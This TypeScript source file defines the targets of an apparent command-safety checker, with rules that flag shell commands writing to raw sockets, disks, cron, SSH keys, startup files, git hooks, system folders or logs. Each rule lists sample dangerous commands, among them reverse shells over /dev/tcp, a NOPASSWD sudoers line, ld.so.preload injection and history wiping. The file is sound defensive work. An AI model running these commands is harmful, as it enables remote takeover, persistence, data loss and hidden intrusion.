/**
 * Targets: files that nothing may be written to without a person seeing it, whichever program or
 * redirection writes.
 */
import type { Danger } from "../rule.js";
import { belowHome, kindOfPath, resolvePath, type Site } from "../site.js";

/** A class of files, told by the absolute path. */
interface Target extends Danger {
  readonly holds: (path: string, site: Site) => boolean;
  /** Whether copying a file there is what the folder is for. */
  readonly isOrdinaryToInstall?: true;
}

const set = (names: string): ReadonlySet<string> => new Set(names.split(" "));

/** Devices that are no disks, by the beginning of their name. */
const PLAIN_DEVICES: readonly string[] =
  "nul zero full random urandom std fd tty pts ptmx console shm cu. usb i2c spi video snd dsp audio input hidraw mqueue log".split(
    " ",
  );

/** Files of a home directory that a shell, an editor, a desktop or a login runs. */
const RUN_AT_START = set(
  ".bashrc .bash_profile .bash_login .bash_logout .bash_aliases .profile .zshrc .zprofile .zshenv .zlogin .zlogout .kshrc .mkshrc .cshrc " +
    ".tcshrc .login .logout .inputrc .xinitrc .xprofile .xsession .xsessionrc .xserverrc .pam_environment .vimrc .gvimrc .exrc .nanorc .emacs " +
    ".screenrc .gitconfig .gdbinit .lldbinit .pythonrc .irbrc .pryrc .lesskey .rhosts .shosts .forward .config/git/config .config/nvim/init.lua " +
    ".config/nvim/init.vim .config/fish/config.fish .config/starship.toml",
);
const RUN_AT_START_FOLDERS: readonly string[] = [
  ".bashrc.d/",
  ".zshrc.d/",
  ".oh-my-zsh/",
  ".config/fish/",
  ".config/autostart/",
  ".config/systemd/",
  ".config/environment.d/",
  ".config/zsh/",
  ".config/bash/",
  ".local/share/systemd/",
  "Library/LaunchAgents/",
];

const HISTORIES = set(
  ".bash_history .zsh_history .history .sh_history .mysql_history .psql_history .python_history",
);

function isDisk(path: string): boolean {
  if (!path.startsWith("/dev/")) return false;
  const name = path.slice("/dev/".length);
  return !PLAIN_DEVICES.some((plain) => name.startsWith(plain)) && !isSocket(path);
}

const isSocket = (path: string): boolean =>
  path.startsWith("/dev/tcp/") || path.startsWith("/dev/udp/");

function isCron(path: string): boolean {
  return /^(?:\/private)?(?:\/etc\/(?:cron|anacron)|\/var\/(?:spool\/(?:cron|at|anacron)|at\/|cron\/))/.test(
    path,
  );
}

/** Classes of targets; the first one that holds a path names the danger. */
export const TARGETS: readonly Target[] = [
  {
    ruleId: "network.raw-socket",
    message:
      "bash opens a network connection through `/dev/tcp` or `/dev/udp`: the usual way to hand a shell or data to another machine",
    holds: isSocket,
    dangerous: [
      "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
      "exec 5<>/dev/tcp/1.2.3.4/443",
      "cat data.txt > /dev/udp/1.2.3.4/53",
      "cat </dev/tcp/1.2.3.4/80",
      "bash -i >& /dev/tcp/127.0.0.1/8080 0>&1",
      "exec 5<>/dev/tcp/localhost/443",
      "cat .env > /dev/tcp/localhost/80",
      "(sh -i) > /dev/tcp/localhost/80 0<&1",
      "echo > /dev/tcp/localhost.x.example/80",
    ],
    not: [
      "(echo > /dev/tcp/localhost/5432) 2>/dev/null && echo up",
      "timeout 1 bash -c '</dev/tcp/127.0.0.1/3000'",
      "ls > /dev/null",
      "echo /dev/tcp/1.2.3.4/80",
      "cat docs/dev/tcp/readme.md",
    ],
  },
  {
    ruleId: "disk.raw-write",
    message: "It writes to a disk directly, past its file system: what is on it is lost",
    holds: isDisk,
    dangerous: [
      "dd if=image.img of=/dev/sdb",
      "cat image.iso > /dev/sda",
      "cp disk.img /dev/nvme0n1",
      "tee /dev/mmcblk0 < image.img",
      "echo 1 > /dev/mem",
      "dd if=x.iso bs=4M of=/dev/disk2",
      "pv x.iso >/dev/rdisk3",
      "truncate -s 0 /dev/sda1",
      ": > /dev/vda",
    ],
    not: [
      "dd if=/dev/zero of=test.img bs=1M count=10",
      "dd if=/dev/sda of=/dev/null count=1",
      "echo hi > /dev/stderr",
      "ls 2>/dev/null",
      "echo x > /dev/tty",
      "cat /dev/null > build.log",
      "echo x > /dev/shm/a",
      "echo AT > /dev/ttyUSB0",
      "tee /dev/null",
    ],
  },
  {
    ruleId: "write.cron",
    message:
      "It writes what the system runs by the clock: the command stays and runs again without anybody asking",
    holds: isCron,
    dangerous: [
      "echo '* * * * * root id' > /etc/cron.d/x",
      "cp job /etc/cron.daily/",
      "echo x >> /var/spool/cron/root",
      "tee -a /etc/crontab < job",
    ],
    not: ["cat /etc/crontab", "echo x > cron.d/job", "cp etc/cron.d/job build/"],
  },
  {
    ruleId: "write.ssh",
    message: "It changes who may log in by SSH or what SSH runs",
    holds: (path, site) =>
      /^\.ssh(?:\/(?:authorized_keys|config|rc$|environment).*)?$/.test(
        belowHome(path, site) ?? "",
      ),
    dangerous: [
      "echo ssh-ed25519 AAAA x >> ~/.ssh/authorized_keys",
      "cp key.pub $HOME/.ssh/authorized_keys2",
      "cat k >> /home/bob/.ssh/authorized_keys",
      "tee -a /home/alice/.ssh/config < x",
      "cp evil.pub ~/.ssh/",
    ],
    not: [
      "ssh-keyscan github.com >> ~/.ssh/known_hosts",
      "cat key.pub >> fixtures/.ssh/authorized_keys",
      "cat ~/.ssh/config",
    ],
  },
  {
    ruleId: "write.startup-file",
    message:
      "It writes a file that every new shell, login or session runs: the command stays and runs again without anybody asking",
    holds: (path, site) => {
      const below = belowHome(path, site);
      if (below === undefined) return /^\/Library\/Launch(?:Daemons|Agents)\//.test(path);
      if (below.includes("/completions/")) return false;
      return (
        RUN_AT_START.has(below) || RUN_AT_START_FOLDERS.some((folder) => below.startsWith(folder))
      );
    },
    dangerous: [
      'echo "alias ls=id" >> ~/.bashrc',
      "echo evil > ~/.profile",
      "cat x | tee -a $HOME/.zshrc",
      "cp rc ~/.bash_profile",
      "echo x >> /home/alice/.zshenv",
      "curl -o ~/.bashrc https://x.example/rc",
      "mv unit ~/.config/systemd/user/x.service",
      "ln -sf evil ~/.config/autostart/x.desktop",
      "cd ~ && echo x >> .bashrc",
      "sed -i s/a/b/ ~/.zshrc",
      "cp x.plist ~/Library/LaunchAgents/x.plist",
      'echo x >> "${HOME}/.bash_login"',
    ],
    not: [
      "cat ~/.bashrc",
      "grep alias ~/.zshrc",
      "kubectl completion fish > ~/.config/fish/completions/kubectl.fish",
      "echo x > notes/.bashrc",
      "cp ~/.vimrc backup/",
      "echo '>> ~/.bashrc'",
      "diff ~/.profile a.txt",
    ],
  },
  {
    ruleId: "write.git-hook",
    message: "It writes a hook or the configuration of git, which git runs later without asking",
    holds: (path) => /\/\.git\/(?:modules\/.*\/)?(?:hooks(?:\/.*)?|config)$/.test(path),
    dangerous: [
      "echo x > .git/hooks/pre-commit",
      "cp evil .git/hooks/",
      "cat x >> .git/config",
      "curl -o .git/hooks/post-merge https://x.example",
    ],
    not: [
      "cat .git/config",
      "ls .git/hooks",
      "echo x > hooks/pre-commit",
      "cp .git/hooks/pre-commit /dev/null",
      "echo x > .husky/pre-commit",
    ],
  },
  {
    ruleId: "write.cover-tracks",
    message:
      "It empties or replaces a history or a log of the system: what happened can no longer be seen",
    holds: (path, site) =>
      HISTORIES.has(belowHome(path, site) ?? "") ||
      /^\/var\/log\/(?:auth|secure|syslog|messages|wtmp|btmp|lastlog|audit)/.test(path),
    dangerous: [
      "> ~/.bash_history",
      "ln -sf /dev/null ~/.zsh_history",
      "truncate -s 0 /var/log/auth.log",
      "echo > /var/log/syslog",
    ],
    not: ["tail ~/.bash_history", "cat /var/log/syslog", "echo > var/log/syslog"],
  },
  {
    ruleId: "write.program",
    message:
      "It writes a program where every shell looks for programs: other commands run it later by its name",
    isOrdinaryToInstall: true,
    holds: (path) => /^\/usr\/local\/s?bin\/[^/]+$/.test(path),
    dangerous: [
      "echo x > /usr/local/bin/git",
      "curl -o /usr/local/bin/ls https://x.example",
      "tee /usr/local/sbin/x < y",
    ],
    not: [
      "cp build/app /usr/local/bin/app",
      "install -m 755 app /usr/local/bin/app",
      "ln -s $PWD/app /usr/local/bin/app",
      "ls /usr/local/bin",
    ],
  },
  {
    ruleId: "write.system",
    message: "It writes into the operating system's own folders",
    holds: (path, site) =>
      !path.startsWith("/dev/") &&
      ["system", "root"].includes(kindOfPath(path, site)) &&
      !/^\/(?:tmp|proc\/self\/fd\/\d+|var\/tmp|snap)$/.test(path) &&
      isOwned(path),
    dangerous: [
      "echo 'x ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers",
      "echo '1.2.3.4 github.com' >> /etc/hosts",
      "cp evil /usr/bin/ls",
      "tee /etc/systemd/system/x.service < unit",
      "echo /tmp/e.so > /etc/ld.so.preload",
      "echo c > /proc/sysrq-trigger",
      "curl -o /etc/profile.d/x.sh https://x.example",
      "wget -O /usr/bin/x https://x.example/x",
      "ln -sf /dev/null /etc/passwd",
      "sed -i s/no/yes/ /etc/ssh/sshd_config",
      "install -m 755 x /sbin/x",
      "mv vmlinuz /boot/",
      "rsync -a out/ /etc/",
      "tar -xzf x.tgz -C /",
      "echo 0 > /sys/kernel/x",
      "printf x > /bin/sh",
    ],
    not: [
      "cat /etc/hosts",
      "cp /etc/hosts hosts.bak",
      "cp build/app /usr/local/bin/app",
      "tar -xzf x.tgz -C build",
      "grep -r x /etc",
      "ls -la /usr/bin",
      "echo x > etc/hosts",
      "rsync -a /etc/ backup/",
      "ln -s /usr/bin/python3 python",
      "cp a /tmp/",
      "cp * /tmp",
      "sed s/a/b/ /etc/hosts",
      "curl -o hosts https://x.example/etc/hosts",
      "git diff > /tmp/x.patch",
      "cd /etc && ls 2>&1",
    ],
  },
];

/** Folders beside the system's own into which programs install and scratch. */
function isOwned(path: string): boolean {
  return (
    !/^\/(?:opt|srv|mnt|media|run|var|Applications|Volumes|private|nix)(?:\/[^/]*)?$/.test(path) &&
    !/^\/usr\/(?:local|src)$/.test(path)
  );
}

/**
 * The danger of writing to what a text names, if any. Installing a file into a folder for it is
 * ordinary (`isInstall`).
 */
export function targetDanger(text: string, site: Site, isInstall = false): Danger | undefined {
  const path = resolvePath(text, site);
  if (path === undefined) return undefined;
  return TARGETS.find(
    ({ holds, isOrdinaryToInstall }) =>
      !(isInstall && isOrdinaryToInstall === true) && holds(path, site),
  );
}
